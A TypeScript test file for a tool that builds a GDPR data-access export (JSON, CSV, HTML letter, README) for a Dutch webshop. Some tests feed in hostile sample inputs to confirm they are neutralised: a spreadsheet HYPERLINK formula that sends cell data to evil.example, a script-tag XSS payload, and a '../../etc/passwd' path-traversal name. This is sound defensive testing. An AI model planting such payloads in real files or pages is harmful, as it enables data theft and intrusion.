import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { strFromU8, unzipSync } from 'fflate';
import { readCsv } from '../../test/helpers/csv.ts';
import { loadYamlFile } from '../config/yaml-file.ts';
import type { FoundRecord } from '../connectors/connector.ts';
import { DataMap } from '../datamap/datamap.schema.ts';
import type { AccessResult } from '../executor/executor.ts';
import { Policy } from '../policy/policy.schema.ts';
import { dataLabels } from './data-labels.ts';
import { buildExportPackage, type ExportData, exportFileName } from './export-package.ts';

const loaded = loadYamlFile('examples/balkonzon/policy.yaml', Policy);
if (!loaded.ok) throw new Error(`example policy does not load: ${JSON.stringify(loaded.problems)}`);
const policy = loaded.value;
const AT = new Date('2026-11-26T14:03:00.000Z');

const record = (r: Omit<FoundRecord, 'categories'> & { categories?: Record<string, string> }): FoundRecord => ({
  categories: {},
  ...r,
});

function accessResult(overrides: Partial<AccessResult> = {}): AccessResult {
  const records = [
    record({
      system: 'shop',
      collection: 'customers',
      key: '17',
      data: { id: 17, name: 'Sanne de Boer', email: 'sanne@example.nl', city: 'Gorredijk', newsletter: true },
      categories: { name: 'contact', email: 'contact', city: 'contact', newsletter: 'account' },
    }),
    record({
      system: 'shop',
      collection: 'orders',
      key: '1001',
      data: {
        id: 1001,
        total: 249.5,
        note: 'Bel even aan, "achterom"\nnaast de schuur, graag',
        shipped_to: 'Blaublomke 1',
      },
      categories: { total: 'order', note: 'order', shipped_to: 'shipping' },
    }),
    record({
      system: 'shop',
      collection: 'orders',
      key: '1002',
      // A column the first order lacks: the CSV header is the union.
      data: { id: 1002, total: 12, note: null, shipped_to: null, coupon: 'ZOMER' },
      categories: { total: 'order', note: 'order', shipped_to: 'shipping', coupon: 'order' },
    }),
    record({
      system: 'boekhouding',
      collection: 'invoices',
      key: 'F-2026-7',
      data: { number: 'F-2026-7', name: 'Sanne de Boer', amount: 249.5 },
      categories: { number: 'invoice', name: 'contact', amount: 'invoice' },
    }),
  ];
  return {
    subject: { email: 'sanne@example.nl' },
    generatedAt: AT.toISOString(),
    records,
    collections: [],
    processors: [
      {
        id: 'myonlinestore',
        name: 'MyOnlineStore',
        role: 'processor',
        locations: ['NL'],
        categories: ['contact', 'order', 'shipping'],
      },
      { id: 'office365', name: 'Office365', role: 'processor', locations: ['IE', 'NL', 'US'], categories: ['contact'] },
    ],
    manualTasks: [
      {
        system: 'mollie',
        processor: 'mollie',
        action: 'access',
        contact: 'support@mollie.com',
        instructions: { nl: 'Zoek de klant op.', en: 'Look the customer up.' },
        dueInDays: 30,
        categories: ['contact', 'payment'],
      },
    ],
    queries: 3,
    ...overrides,
  };
}

function unpack(result: AccessResult, lang: 'nl' | 'en' = 'nl') {
  const files = unzipSync(buildExportPackage(result, policy, { lang, generatedAt: AT }));
  const text = (name: string) => {
    const bytes = files[name];
    assert.ok(bytes, `${name} is in the package`);
    return strFromU8(bytes);
  };
  return { files, text };
}

describe('the export package', () => {
  it('holds data.json, index.html, README.txt and one CSV per collection', () => {
    const { files } = unpack(accessResult());
    assert.deepEqual(Object.keys(files).sort(), [
      'README.txt',
      'csv/boekhouding/invoices.csv',
      'csv/shop/customers.csv',
      'csv/shop/orders.csv',
      'data.json',
      'index.html',
    ]);
  });

  it('lists every record in data.json with its system, collection and main category', () => {
    const data = JSON.parse(unpack(accessResult()).text('data.json')) as ExportData;
    assert.equal(data.format, 'inzage-export/1');
    assert.deepEqual(data.subject, { email: 'sanne@example.nl' });
    assert.equal(data.generatedAt, AT.toISOString());
    assert.deepEqual(data.controller, { name: 'Balkonzon b.v.', email: 'enrico@balkonzon.nl' });
    assert.deepEqual(
      data.records.map((r) => [r.system, r.collection, r.key, r.category]),
      [
        ['shop', 'customers', '17', 'contact'],
        ['shop', 'orders', '1001', 'order'],
        // Only total and coupon hold a value: both order, although shipping is categorised too.
        ['shop', 'orders', '1002', 'order'],
        ['boekhouding', 'invoices', 'F-2026-7', 'invoice'],
      ],
    );
    assert.equal(data.records[0]?.data.newsletter, true);
    assert.deepEqual(
      data.processors.map((p) => p.id),
      ['myonlinestore', 'office365'],
    );
    assert.deepEqual(data.manualTasks, [{ processor: 'mollie', contact: 'support@mollie.com', dueInDays: 30 }]);
    assert.deepEqual(data.consents, []);
    assert.equal(data.type, 'access');
  });

  it('writes CSVs for a Dutch spreadsheet (BOM, semicolons, CRLF) that read back right, quotes and line breaks included', () => {
    const result = accessResult();
    result.records[1]!.data = { ...result.records[1]!.data, shipped_to: 'Blaublomke 1; achterom' };
    const { files } = unpack(result);
    const bytes = files['csv/shop/orders.csv'];
    assert.ok(bytes);
    assert.deepEqual([...bytes.slice(0, 3)], [0xef, 0xbb, 0xbf]);
    const text = strFromU8(bytes);
    assert.ok(text.replace(/^\uFEFF/, '').startsWith('id;total;note;shipped_to;coupon\r\n'), 'semicolons and CRLF');
    assert.doesNotMatch(text.replace(/"[^"]*"/g, ''), /(?<!\r)\n/, 'every record ends in CRLF');
    const rows = readCsv(text, ';');
    assert.deepEqual(rows, [
      ['id', 'total', 'note', 'shipped_to', 'coupon'],
      ['1001', '249.5', 'Bel even aan, "achterom"\nnaast de schuur, graag', 'Blaublomke 1; achterom', ''],
      ['1002', '12', '', '', 'ZOMER'],
    ]);
    const customers = readCsv(strFromU8(files['csv/shop/customers.csv'] ?? new Uint8Array()), ';');
    assert.deepEqual(customers[1], ['17', 'Sanne de Boer', 'sanne@example.nl', 'Gorredijk', 'true']);
  });

  it('neutralises cells a spreadsheet would run as formulas, and keeps a phone number readable', () => {
    const result = accessResult();
    result.records[0]!.data = {
      ...result.records[0]!.data,
      name: '=HYPERLINK("https://evil.example/?"&A1,"Klik")',
      phone: '+31 6 12345678',
      balance: -12.5,
    };
    const customers = readCsv(strFromU8(unpack(result).files['csv/shop/customers.csv'] ?? new Uint8Array()), ';');
    const row = Object.fromEntries(customers[0]!.map((column, i) => [column, customers[1]![i]]));
    assert.equal(row.name, `'=HYPERLINK("https://evil.example/?"&A1,"Klik")`);
    assert.equal(row.phone, "'+31 6 12345678");
    assert.equal(row.balance, '-12.5', 'a negative number is a number, not a formula');
  });

  for (const [lang, words] of [
    ['nl', ['Uw gegevens bij Balkonzon b.v.', 'Contactgegevens', 'Bestelgegevens', 'Wie heeft uw gegevens nog?']],
    ['en', ['Your data at Balkonzon b.v.', 'Contact details', 'Order details', 'Who else holds your data?']],
  ] as const) {
    it(`shows the data, category names and processors on a page without scripts (${lang})`, () => {
      const html = unpack(accessResult(), lang).text('index.html');
      assert.match(html, new RegExp(`<html lang="${lang}">`));
      for (const word of words) assert.ok(html.includes(word), `index.html says "${word}"`);
      for (const name of ['MyOnlineStore', 'Office365', 'Mollie', 'Autoriteit Persoonsgegevens', 'Sanne de Boer']) {
        assert.ok(html.includes(name), `index.html mentions ${name}`);
      }
      assert.ok(html.includes(lang === 'nl' ? 'Verenigde Staten' : 'United States'), 'country names, not codes');
      assert.ok(html.includes(lang === 'nl' ? 'Webwinkelsoftware' : 'Webshop software'), 'the service');
      // Mollie has no API here: the officer will ask it; nothing says it was asked already.
      assert.ok(
        html.includes(lang === 'nl' ? 'Onze contactpersoon voor privacyzaken vraagt Mollie' : 'will ask Mollie'),
      );
      assert.doesNotMatch(html, lang === 'nl' ? /Wij hebben Mollie/ : /We have asked Mollie/);
      assert.ok(html.includes(lang === 'nl' ? '26 november 2026' : '26 November 2026'));
      assert.doesNotMatch(html, /<script/i);
    });
  }

  it('reads as a letter: a section per kind of data, labels in words, Dutch time and euros, no column names', () => {
    const result = accessResult();
    result.records[0]!.data = {
      ...result.records[0]!.data,
      created_at: '2025-09-07T12:03:00.000Z',
      phone: '0612345678',
    };
    result.records[0]!.categories = { ...result.records[0]!.categories, created_at: 'account', phone: 'contact' };
    result.records[1]!.data = {
      ...result.records[1]!.data,
      total_cents: 69195,
      status: 'delivered',
      provider: 'mollie',
      method: 'ideal',
      shipping_country: 'NL',
    };
    const reviews = record({
      system: 'shop',
      collection: 'reviews',
      key: '5',
      data: { id: 5, body: 'Mooi paneel', shipped_on: '2025-09-08' },
      categories: { body: 'review' },
    });
    const html = unpack({ ...result, records: [...result.records, reviews] }).text('index.html');
    const text = html.replace(/<style>[\s\S]*?<\/style>/g, ' ').replace(/<[^>]+>/g, ' ');
    for (const said of ['Uw klantaccount', 'Uw bestellingen', 'Uw beoordelingen', 'Telefoonnummer', 'Plaats']) {
      assert.ok(text.includes(said), `index.html says "${said}"`);
    }
    assert.ok(text.includes('7 september 2025, 14:03'), 'a timestamp in Dutch time (CEST)');
    assert.ok(text.includes('8 september 2025'), 'a day in words');
    assert.ok(text.includes('€ 691,95'), 'cents as euros');
    assert.ok(text.includes('€ 249,50'), 'an amount as euros');
    assert.ok(text.includes('bezorgd') && !text.includes('delivered'), "the shop's status in words");
    assert.ok(text.includes('Mollie') && !/\bmollie\b/.test(text), 'a processor by its name, never its id');
    assert.ok(text.includes('iDEAL') && text.includes('Nederland'), 'a payment method and a country in words');
    for (const name of ['total_cents', 'shipped_to', 'created_at', 'customers', 'orders', 'shop ›', 'UTC']) {
      assert.ok(!text.includes(name), `index.html does not say "${name}"`);
    }
    assert.ok(!html.includes('<dt>Kenmerk</dt>'), "a row's database key stays in data.json and the CSVs");
    const en = unpack(result, 'en').text('index.html');
    assert.ok(en.includes('Your customer account') && en.includes('7 September 2025, 14:03'));
  });

  it("takes the data map's labels for a collection and a field before the defaults", () => {
    const labels = dataLabels(
      DataMap.parse({
        systems: {
          shop: {
            type: 'sql',
            url: 'sqlite::memory:',
            collections: {
              orders: {
                label: { nl: 'Uw aankopen', en: 'Your purchases' },
                fields: { shipped_to: { category: 'shipping', label: { nl: 'Bezorgd op adres', en: 'Delivered to' } } },
              },
              customers: { fields: { name: { category: 'contact', role: 'full_name' } } },
            },
          },
        },
      }),
    );
    const html = strFromU8(
      unzipSync(buildExportPackage(accessResult(), policy, { lang: 'nl', generatedAt: AT, labels }))['index.html']!,
    );
    assert.ok(html.includes('Uw aankopen') && html.includes('Bezorgd op adres'));
    assert.ok(html.includes('<dt>Naam</dt>'), 'the role gives the word');
    assert.ok(!html.includes('Uw bestellingen'));
  });

  it('tells a row found through two collections of one table once in the letter, and keeps both in data.json', () => {
    // WooCommerce with compatibility sync: an order note hangs off the order in both storages.
    const notes = { category: 'correspondence', erase: 'delete' } as const;
    const labels = dataLabels(
      DataMap.parse({
        systems: {
          shop: {
            type: 'sql',
            url: 'sqlite::memory:',
            tablePrefix: 'wp_',
            collections: {
              order_notes: {
                table: 'comments',
                where: { comment_type: 'order_note' },
                fields: { comment_content: notes },
              },
              hpos_order_notes: {
                table: 'comments',
                where: { comment_type: 'order_note' },
                fields: { comment_content: notes },
              },
              reviews: { table: 'reviews', fields: { comment_content: { category: 'review', erase: 'delete' } } },
            },
          },
        },
      }),
    );
    const note = (collection: string, key: string, text: string) =>
      record({
        system: 'shop',
        collection,
        key,
        data: { comment_ID: Number(key), comment_content: text },
        categories: { comment_content: 'correspondence' },
      });
    const records = [
      note('order_notes', '7', 'Betaling voltooid door J. Jansen.'),
      note('order_notes', '8', 'Pakket opgehaald door PostNL.'),
      note('hpos_order_notes', '7', 'Betaling voltooid door J. Jansen.'),
      note('hpos_order_notes', '8', 'Pakket opgehaald door PostNL.'),
      // Another table with a row of the same key: not the same row.
      note('reviews', '7', 'Mooi paneel.'),
    ];
    const result = accessResult({ records });
    const files = unzipSync(buildExportPackage(result, policy, { lang: 'nl', generatedAt: AT, labels }));
    const html = strFromU8(files['index.html']!);
    const times = (text: string) => html.split(text).length - 1;
    assert.equal(times('Betaling voltooid door J. Jansen.'), 1);
    assert.equal(times('Pakket opgehaald door PostNL.'), 1);
    assert.equal(times('Mooi paneel.'), 1);
    const data = JSON.parse(strFromU8(files['data.json']!)) as ExportData;
    assert.deepEqual(
      data.records.map((r) => [r.collection, r.key]),
      records.map((r) => [r.collection, r.key]),
      'data.json keeps where each record was found',
    );
    // Without the data map the letter cannot tell the rows are one: it shows what was found.
    const plain = strFromU8(
      unzipSync(buildExportPackage(result, policy, { lang: 'nl', generatedAt: AT }))['index.html']!,
    );
    assert.equal(plain.split('Betaling voltooid door J. Jansen.').length - 1, 2);
  });

  it('escapes a script in a record', () => {
    const result = accessResult();
    const evil = record({
      system: 'shop',
      collection: 'reviews',
      key: '<b>1</b>',
      data: { text: '<script>alert(1)</script>' },
      categories: { text: 'review' },
    });
    const html = unpack({ ...result, records: [...result.records, evil] }).text('index.html');
    assert.doesNotMatch(html, /<script/i);
    assert.ok(html.includes('&lt;script>alert(1)&lt;/script>') || html.includes('&lt;script&gt;'));
  });

  it('answers a person with no records and nothing to come with a clear "no data" page', () => {
    const { files, text } = unpack(accessResult({ records: [], processors: [], manualTasks: [] }));
    const html = text('index.html');
    assert.ok(html.includes('Wij hebben geen gegevens over u gevonden'));
    assert.ok(html.includes('sanne@example.nl'));
    assert.ok(html.includes('Uw rechten'));
    assert.deepEqual(JSON.parse(text('data.json')).records, []);
    assert.equal(Object.keys(files).filter((f) => f.startsWith('csv/')).length, 0);
    const en = unpack(accessResult({ records: [], processors: [], manualTasks: [] }), 'en').text('index.html');
    assert.ok(en.includes('We found no data about you'));
  });

  it('explains the files in a short README in the asked language', () => {
    const nl = unpack(accessResult()).text('README.txt').trim().split(/\r?\n/);
    assert.ok(nl.length >= 5 && nl.length <= 10, `${nl.length} lines`);
    assert.match(nl[0] ?? '', /Uw gegevens bij Balkonzon b\.v\./);
    assert.match(unpack(accessResult(), 'en').text('README.txt'), /data\.json {3}The same data/);
  });

  it('gives the same bytes for the same input', () => {
    const a = buildExportPackage(accessResult(), policy, { lang: 'nl', generatedAt: AT });
    const b = buildExportPackage(accessResult(), policy, { lang: 'nl', generatedAt: AT });
    assert.deepEqual(Buffer.from(a), Buffer.from(b));
    const withoutDate = buildExportPackage(accessResult(), policy, { lang: 'nl' });
    assert.deepEqual(Buffer.from(withoutDate), Buffer.from(a), "defaults to the result's time");
  });

  it('keeps a system or collection name from leaving the csv folder', () => {
    const sneaky = record({ system: '..', collection: '../../etc/passwd', key: '1', data: { a: 1 } });
    const { files } = unpack(accessResult({ records: [sneaky] }));
    const csvs = Object.keys(files).filter((f) => f.startsWith('csv/'));
    assert.deepEqual(csvs, ['csv/_/__.._etc_passwd.csv']);
  });

  it('names the download after the day it was made', () => {
    assert.equal(exportFileName(AT), 'inzage-export-2026-11-26.zip');
  });
});
